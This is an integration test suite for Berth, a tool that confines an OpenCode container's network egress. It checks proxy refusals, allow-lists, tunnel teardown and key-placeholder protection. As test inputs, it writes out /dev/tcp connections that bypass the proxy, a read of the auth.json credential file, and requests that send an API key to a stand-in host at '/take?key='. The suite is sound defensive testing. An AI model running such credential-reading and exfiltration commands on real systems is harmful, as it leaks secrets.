import { once } from 'node:events'
import { connect, createServer, type Server } from 'node:net'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { EgressDestination } from '../../src/preload/egress.ts'
import type { EgressPolicy } from '../../src/preload/egress-policy.ts'
import type { Project } from '../../src/preload/shapes.ts'
import { engineRequest, engineSocket, ensureBaseImage, ensureEngine } from '../support/docker.mjs'
import { requestFrom, runInContainer, tunnelFrom } from '../support/in-container.ts'
import { startModelServer } from '../support/model-server/server.ts'
import type { ModelServer } from '../support/model-server/types.ts'
import { listenAt, startRaw } from '../support/raw-container.ts'
import { makeTempProject, type TempProject } from '../support/temp-project.ts'
import { makeTestApp, type TestApp } from '../support/test-app.ts'

/** Where a real container with the real OpenCode may go, policy by policy, without being started again till the last. */

const CANARY = `sk-ant-api03-canary-${'x7Qd'.repeat(20)}`
const ANSWER = 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello'

let stopEngine = async () => {}
let image: string
let vendor: ModelServer
/** Any host that is no provider's. */
let elsewhere: Server
/** What was sent to it, a connection each. */
let received: string[]
let berth: TestApp
let folder: TempProject
let project: Project
let startedAt: string

const ready = () =>
  vi.waitFor(
    async () => {
      const [found] = await berth.call('projects.list', {})
      expect(found?.state, JSON.stringify(found?.problem)).toBe('running')
    },
    { timeout: 90_000, interval: 100 },
  )

interface Inspected {
  readonly State: { readonly StartedAt: string }
  readonly NetworkSettings: { readonly Networks: Readonly<Record<string, unknown>> }
}

async function container(): Promise<Inspected> {
  return JSON.parse((await engineRequest('GET', `/containers/berth-${project.id}/json`)).text)
}
const containerStart = async () => (await container()).State.StartedAt
const networks = async () => Object.keys((await container()).NetworkSettings.Networks)

beforeAll(async () => {
  stopEngine = await ensureEngine()
  image = await ensureBaseImage()
  vendor = await startModelServer()
  received = []
  elsewhere = createServer((socket) => {
    const index = received.push('') - 1
    socket.on('error', () => undefined)
    socket.on('data', (chunk) => {
      received[index] += chunk.toString('latin1')
      if (received[index]?.endsWith('\r\n\r\n')) socket.end(ANSWER)
    })
  })
  elsewhere.listen(0, '127.0.0.1')
  await once(elsewhere, 'listening')
  const address = elsewhere.address()
  const there = `127.0.0.1:${typeof address === 'object' ? address?.port : 0}`
  folder = await makeTempProject()
  berth = makeTestApp({
    BERTH_DEFAULT_IMAGE: image,
    BERTH_ENGINE: `unix://${engineSocket()}`,
    BERTH_HOST_MAP: JSON.stringify({
      'api.anthropic.com': `127.0.0.1:${vendor.httpsPort}`,
      'api.openai.com': `127.0.0.1:${vendor.httpsPort}`,
      'github.com': there,
      'unknown.test': there,
    }),
    BERTH_EXTRA_CA: vendor.caFile,
  })
  await berth.open()
  await berth.call('accounts.add', { providerId: 'anthropic', label: 'work', key: CANARY })
  project = await berth.call('projects.create', {
    name: 'atlas',
    folder: folder.path,
    providerId: 'anthropic',
    modelId: 'claude-sonnet-4-5',
    runtime: 'docker',
    image,
    egress: 'gateway-only',
  })
  await ready()
  startedAt = await containerStart()
}, 300_000)

afterAll(async () => {
  if (project !== undefined) await berth.call('projects.remove', { projectId: project.id })
  await berth?.end()
  await vendor?.close()
  elsewhere?.close()
  await folder?.remove()
  await stopEngine()
})

const keepTo = (egress: EgressPolicy) => berth.call('projects.update', { projectId: project.id, egress })
const ask = (to: string, payload = `GET / HTTP/1.1\r\nX-Of: ${to}\r\n\r\n`) =>
  tunnelFrom(project.id, to, payload)
const counted = async (host: string): Promise<EgressDestination | undefined> =>
  (await berth.call('egress.destinations', { projectId: project.id })).find((one) => one.host === host)

let prompts = 0
async function expectAnswer(): Promise<void> {
  prompts += 1
  const text = `question number ${prompts}`
  await berth.call('conversation.send', { projectId: project.id, text, requestId: `request${prompts}` })
  const request = await vendor.waitForRequest((one) => !one.isTitle && one.body.includes(text), 30_000)
  expect(request.headers['x-api-key']).toBe(CANARY)
  await vi.waitFor(
    async () => {
      const { messages } = await berth.call('conversation.get', { projectId: project.id })
      expect(JSON.stringify(messages.at(-1))).toContain(`You said: ${text}`)
    },
    { timeout: 60_000, interval: 100 },
  )
  await ready()
}

describe('gateway-only', () => {
  it('lets a prompt be answered and nothing else out', async () => {
    await expectAnswer()
    const before = received.length
    for (const said of [
      await ask('github.com:443'),
      await requestFrom(project.id, 'http://unknown.test/a'),
    ]) {
      expect(said).toMatch(/^HTTP\/1\.1 403 /)
      expect(said).toContain('x-berth-error: egress_refused')
      expect(said).toContain('atlas may reach its providers only, so Berth opened no connection to')
    }
    expect(received).toHaveLength(before)
    expect(await counted('github.com')).toMatchObject({ kind: 'other', connections: 0, refused: 1 })
    expect(await counted('api.anthropic.com')).toMatchObject({ kind: 'provider', refused: 0 })
    // Open connections are looked at once a second.
    await vi.waitFor(async () => expect((await counted('api.anthropic.com'))?.bytesIn).toBeGreaterThan(0), {
      timeout: 10_000,
    })
  }, 120_000)
})

/** What a program in the project's container is told that goes to an address itself. */
const straight = (address: string) =>
  runInContainer(project.id, `timeout 4 bash -c 'cat </dev/tcp/${address}/7000'; echo "ended with $?"`)

describe('a program that ignores the proxy', () => {
  it('reaches no other network, no other confined container and no name server', async () => {
    expect(await networks()).toEqual(['berth-confined'])
    const outside = await startRaw(image, 'bridge', listenAt(7000))
    const beside = await startRaw(image, 'berth-confined', listenAt(7000))
    const visitor = await startRaw(image, 'bridge', ['perl', '-e', '$|=1; print "up\n"; sleep 600'])
    try {
      // Both serve: one to its network, the other to this machine, from where Berth reaches OpenCode in the same way.
      expect(await visitor.run(['bash', '-c', `grep hello </dev/tcp/${outside.address}/7000`])).toBe(0)
      const [hello] = await once(connect({ host: beside.address, port: 7000 }), 'data')
      expect(String(hello)).toBe('hello\n')
      for (const { address } of [outside, beside]) {
        const said = await straight(address)
        expect(said).not.toContain('hello')
        expect(said).toMatch(/ended with [1-9]/)
      }
      expect(await runInContainer(project.id, 'getent ahosts github.com; echo $?')).toBe('2\n')
    } finally {
      for (const raw of [outside, beside, visitor]) await raw.remove()
    }
  }, 60_000)
})

it('lets the doctor see a confined container reach the gateway', async () => {
  const found = (await berth.call('app.doctor', {})).find(({ id }) => id === 'container')
  expect(found).toMatchObject({
    state: 'ok',
    detail: expect.stringContaining('A confined one does, too.'),
  })
})

describe('listed', () => {
  it('lets a git host through, and says of another why not', async () => {
    await keepTo('listed')
    const payload = 'GET /of/github HTTP/1.1\r\n\r\n'
    const said = await ask('github.com:443', payload)
    expect(said).toMatch(/^HTTP\/1\.1 200 /)
    expect(said).toContain('hello')
    expect(received.at(-1)).toBe(payload)
    const refused = await ask('unknown.test:443')
    expect(refused).toMatch(/^HTTP\/1\.1 403 /)
    expect(refused).toContain(
      "unknown.test is not on the list of hosts that atlas may reach. Allow it in Berth, in the project's Network tab.",
    )
    await vi.waitFor(
      async () =>
        expect(await counted('github.com')).toMatchObject({
          connections: 1,
          bytesOut: payload.length,
          bytesIn: ANSWER.length,
          listed: true,
        }),
      { timeout: 10_000 },
    )
    expect(await counted('unknown.test')).toMatchObject({ connections: 0, listed: false })
    await expectAnswer()
  }, 120_000)

  it('lets an allowed host through from the next connection on, at the ports of the web', async () => {
    await berth.call('egress.allow', { host: 'unknown.test', purpose: '' })
    expect(await ask('unknown.test:443')).toContain('hello')
    expect(await requestFrom(project.id, 'http://unknown.test/a')).toContain('hello')
    const atPort = await ask('unknown.test:2222')
    expect(atPort).toContain('unknown.test:2222 is not on the list')
    expect(await counted('unknown.test:2222')).toMatchObject({ refused: 1, listed: false })
    await berth.call('egress.allow', { host: 'unknown.test:2222', purpose: '' })
    expect(await ask('unknown.test:2222')).toContain('hello')
    expect(await ask('github.com:22')).toContain('hello')
  })

  it('ends an open tunnel when its host is taken away', async () => {
    const before = received.length
    // The server answers at the end of a head only, so this one stays open until the gateway ends it.
    const open = ask('unknown.test:2222', 'no end')
    await vi.waitFor(() => expect(received[before]).toBe('no end'), { timeout: 10_000 })
    await berth.call('egress.disallow', { host: 'unknown.test:2222' })
    expect(await open).toMatch(/^HTTP\/1\.1 200 /)
    await berth.call('egress.disallow', { host: 'unknown.test' })
    expect(await ask('unknown.test:443')).toMatch(/^HTTP\/1\.1 403 /)
  })
})

describe('open', () => {
  it('carries what is said to any host unread', async () => {
    await keepTo('open')
    const payload = '\u0001 not even HTTP\r\n\r\n'
    expect(await ask('unknown.test:9999', payload)).toContain('hello')
    expect(received.at(-1)).toBe(payload)
    const [route] = await berth.call('projects.routes', { projectId: project.id })
    expect(route).toMatchObject({ host: 'unknown.test', method: 'CONNECT', outcome: 'tunnelled' })
  })

  it('ends its tunnels when the policy gets narrower', async () => {
    const before = received.length
    const open = ask('unknown.test:9999', 'no end')
    await vi.waitFor(() => expect(received[before]).toBe('no end'), { timeout: 10_000 })
    await keepTo('gateway-only')
    expect(await open).toMatch(/^HTTP\/1\.1 200 /)
    await keepTo('open')
  })

  it('refuses a placeholder on a foreign host, reports it, and never fills it in', async () => {
    const file = await runInContainer(project.id, 'cat ~/.local/share/opencode/auth.json')
    const [given] = /sk-ant-[\w-]+/.exec(file) ?? []
    expect(given).toBeDefined()
    expect(given).not.toContain('canary')
    const before = received.length
    const header = `X-Api-Key: ${given}`
    for (const url of ['http://unknown.test/take', `http://unknown.test/take?key=${given}`]) {
      const said = await requestFrom(project.id, url, url.includes('?') ? [] : [header])
      expect(said).toMatch(/^HTTP\/1\.1 4\d\d /)
      expect(said).toContain('x-berth-error: placeholder_refused')
      expect(said).not.toContain(CANARY)
    }
    expect(received).toHaveLength(before)
    const notices = berth.events.filter(({ name }) => name === 'notice')
    expect(JSON.stringify(notices)).toContain('atlas tried to send its Anthropic login to unknown.test')
    const [route] = await berth.call('projects.routes', { projectId: project.id })
    expect(route).toMatchObject({ host: 'unknown.test', outcome: 'refused' })

    // Where nothing is read, it goes as the worthless thing it is.
    await ask('unknown.test:443', `GET / HTTP/1.1\r\n${header}\r\n\r\n`)
    expect(received.at(-1)).toContain(given)
    expect(received.join('\n')).not.toContain(CANARY)
  })
})

it('was all done by one start of one container', async () => {
  expect(await containerStart()).toBe(startedAt)
  expect(JSON.stringify(berth.events)).not.toContain(CANARY)
})

it('reaches what it likes from the next start after it was let go anywhere, and leaves no network', async () => {
  expect(await networks()).toEqual(['berth-confined'])
  const serverEgress = async () => (await berth.call('projects.list', {}))[0]?.serverEgress
  expect(await serverEgress()).toBe('gateway-only')
  await berth.call('projects.restart', { projectId: project.id })
  await ready()
  expect(await networks()).toEqual(['bridge'])
  expect(await serverEgress()).toBe('open')
  expect((await engineRequest('GET', '/networks/berth-confined')).status).toBe(404)
  const outside = await startRaw(image, 'bridge', listenAt(7000))
  expect(await straight(outside.address).finally(outside.remove)).toContain('hello')
  await expectAnswer()
}, 120_000)
